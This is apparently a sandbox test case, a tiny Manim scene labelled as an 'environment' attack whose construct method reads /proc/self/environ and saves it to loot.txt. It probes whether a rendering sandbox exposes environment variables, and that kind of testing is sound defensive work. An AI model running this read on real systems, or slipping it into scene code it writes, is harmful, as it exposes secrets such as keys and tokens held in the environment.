# family: environment
# layer: sandbox
# attack: read this process's environment from /proc
from manim import *


class Attack(Scene):
    def construct(self):
        open("loot.txt", "w").write(open("/proc/self/environ").read())
        self.wait(0.1)
